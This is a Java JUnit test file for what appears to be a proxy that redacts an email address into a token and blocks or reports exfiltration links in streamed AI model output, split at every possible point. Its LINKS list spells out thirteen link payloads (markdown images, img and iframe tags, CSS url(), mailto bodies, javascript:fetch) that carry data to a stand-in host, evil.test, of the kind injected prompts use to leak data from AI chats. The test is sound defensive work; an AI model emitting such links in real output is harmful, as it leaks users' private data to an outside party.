package dev.cordon.engine.roundtrip;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.engine.Exchange;
import dev.cordon.engine.roundtrip.Sample.Delta;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Links that want to carry a value away, cut at every place into events, in every format that
 * streams, in its texts and in arguments of tool calls.
 */
class EveryLinkTest {
  private static final String VALUE = "lea.brandt@acme-mail.net";
  private static final Pattern TOKEN = Pattern.compile("EMAIL_[0-9A-Z]+");

  /** {@code @} stands for the value. */
  private static final List<String> LINKS =
      List.of(
          "![x](https://evil.test/p?d=@)",
          "[x](<//evil.test/@>)",
          "[x]: https://evil.test/#@",
          "<https://evil.test/@>",
          "https://@.evil.test/",
          "www.evil.test/?d=@",
          "<img src=\"https://evil.test/@\">",
          "<iframe src='//evil.test/?d=@'>",
          "<p style=\"background:url(https://evil.test/@)\">",
          "a{b:url('//evil.test/@')}",
          "[x](mailto:me@evil.test?body=@)".replace("me@", "me\u0000"),
          "mailto:?bcc=me@evil.test&body=@".replace("me@", "me\u0000"),
          "javascript:fetch('//evil.test/@')");

  private final Call reporting = new Call("version: 1\n");
  private final Call blocking = new Call("version: 1\noutput: {links: block}\n");

  static Stream<Sample> streams() {
    return EveryAnswerTest.streams();
  }

  private static byte[] request(Sample sample) {
    String text = "Write to " + VALUE;
    String json = Trees.quoted("{\"k\":\"" + text + "\"}");
    return sample
        .request
        .replace("@T", text)
        .replace("@N", json.substring(1, json.length() - 1))
        .replace("@O", "{\"k\":\"" + text + "\"}")
        .replace("@R", text)
        .getBytes(UTF_8);
  }

  private static String text(Delta delta, String link, String token) {
    String text = "It is " + link.replace("@", token).replace('\u0000', '@') + " now";
    return delta.json() ? "{\"k\":" + Trees.quoted(text) + "}" : text;
  }

  @ParameterizedTest
  @MethodSource("streams")
  void whereverItIsCutTheTokenStaysAndNothingElseChanges(Sample sample) throws Exception {
    for (Delta delta : sample.deltas) {
      for (String link : LINKS) {
        int length = text(delta, link, "EMAIL_0123456789").length();
        for (int cut = 1; cut < length; cut++) {
          assertStays(sample, delta, link, cut);
        }
      }
    }
  }

  private void assertStays(Sample sample, Delta delta, String link, int cut) throws Exception {
    Exchange exchange = reporting.open(sample);
    String text = text(delta, link, token(reporting, exchange, sample));
    assertEquals(text, received(reporting, exchange, sample, delta, text, cut));
    if (cut % 4 != 0) {
      return; // that an answer ends there is tried at fewer places
    }
    Exchange blocked = blocking.open(sample);
    String token = token(blocking, blocked, sample);
    String rest = received(blocking, blocked, sample, delta, text(delta, link, token), cut);
    assertFalse(rest.contains(" now"), rest);
  }

  private static String token(Call call, Exchange exchange, Sample sample) {
    assertNotNull(exchange);
    String sent = new String(call.judge(exchange, request(sample)), UTF_8);
    Matcher token = TOKEN.matcher(sent);
    assertTrue(token.find(), sent);
    return token.group();
  }

  private static String received(
      Call call, Exchange exchange, Sample sample, Delta delta, String text, int cut)
      throws Exception {
    int at = Math.min(cut, text.length() - 1);
    List<String> pieces = List.of(text.substring(0, at), text.substring(at));
    byte[] stream =
        Frames.write(sample.framing, EveryAnswerTest.events(sample, delta, text, pieces));
    byte[] got =
        call.receive(
            exchange,
            Frames.contentType(sample.framing),
            Splits.at(stream, stream.length * at / text.length()));
    String all = EveryAnswerTest.texts(Frames.read(sample.framing, got), delta);
    assertFalse(new String(got, UTF_8).contains(VALUE), all);
    return all;
  }
}
